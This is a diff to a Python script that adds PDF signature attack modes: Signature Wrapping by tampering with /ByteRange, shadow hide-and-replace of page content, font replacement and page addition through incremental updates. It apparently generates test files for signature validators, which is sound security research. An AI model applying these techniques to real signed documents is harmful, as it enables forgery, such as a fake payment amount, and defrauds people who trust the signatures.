@@ -15,6 +15,13 @@ Modes (the last signature is the one attacked):
   append-content  incremental update replacing page 1's content stream
   append-annot    incremental update adding a FreeText annotation to page 1
   dup             incremental update defining one object twice (for signing afterwards)
+  wrap-gap        Signature Wrapping: /ByteRange's gap widened to start inside the dictionary
+  wrap-overlap    Signature Wrapping: /ByteRange with overlapping ranges
+  shadow-prep     incremental update adding an unused content stream (for signing afterwards)
+  shadow-switch   incremental update pointing page 1's /Contents at that hidden stream
+                  (hide-and-replace)
+  replace-font    incremental update redefining the font page 1 uses (replace)
+  add-page        incremental update adding a second page (page count change)
 """
 import re, sys, zlib
 
@@ -101,6 +108,36 @@ elif mode == 'dup':
     text = b'BT /F1 24 Tf 72 700 Td (Versi lain) Tj ET'
     orig = re.search(rb'(?<![0-9])%d 0 obj\s*(<<.*?endstream)' % cnum, d, re.S).group(1)
     append_update([(cnum, orig), (cnum, b'<< /Length %d >>\nstream\n' % len(text) + text + b'\nendstream')])
+elif mode in ('wrap-gap', 'wrap-overlap'):
+    m = last_sig()
+    a, b, c, e = map(int, m.groups())
+    old = m.group(0)
+    new = {'wrap-gap': b'/ByteRange [0 %d %d %d]' % (b - 20, c, e),
+           'wrap-overlap': b'/ByteRange [0 %d %d %d]' % (b, b - 10, e)}[mode]
+    d[m.start():m.end()] = same_len(old, new)
+elif mode == 'shadow-prep':
+    size = int(re.search(rb'/Size\s+(\d+)', re.findall(rb'trailer\s*(<<.*?>>)\s*startxref', d, re.S)[-1]).group(1))
+    text = b'BT /F1 24 Tf 72 700 Td (Dibayar Rp 999.000.000) Tj ET'
+    append_update([(size, b'<< /Length %d >>\nstream\n' % len(text) + text + b'\nendstream')])
+elif mode == 'shadow-switch':
+    num, page = page1()
+    hidden = max(int(x) for x in re.findall(rb'(?<![0-9])(\d+) 0 obj\s*<<\s*/Length \d+ >>\nstream\nBT /F1 24 Tf 72 700 Td \(Dibayar', d))
+    p = re.sub(rb'/Contents\s+\d+\s+0\s+R', b'/Contents %d 0 R' % hidden, page, count=1)
+    append_update([(num, p)])
+elif mode == 'replace-font':
+    num, page = page1()
+    fnum = int(re.search(rb'/F1\s+(\d+)\s+0\s+R', page).group(1))
+    append_update([(fnum, b'<< /BaseFont /Courier /Subtype /Type1 /Type /Font >>')])
+elif mode == 'add-page':
+    num, page = page1()
+    pm = re.search(rb'(?<![0-9])(\d+) 0 obj\s*(<<(?:(?!endobj).)*?/Type\s*/Pages\b.*?>>)\s*endobj', d, re.S)
+    pnum, pages = int(pm.group(1)), pm.group(2)
+    size = int(re.search(rb'/Size\s+(\d+)', re.findall(rb'trailer\s*(<<.*?>>)\s*startxref', d, re.S)[-1]).group(1))
+    newpage = b'<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Contents %d 0 R >>' % (pnum, size + 1)
+    text = b'BT /F1 24 Tf 72 700 Td (Halaman tambahan) Tj ET'
+    pages = re.sub(rb'/Count\s+\d+', b'/Count 2', pages)
+    pages = re.sub(rb'/Kids\s*\[', b'/Kids [ %d 0 R ' % size, pages, count=1)
+    append_update([(size, newpage), (size + 1, b'<< /Length %d >>\nstream\n' % len(text) + text + b'\nendstream'), (pnum, pages)])
 else:
     sys.exit('unknown mode ' + mode)
 open(dst, 'wb').write(d)
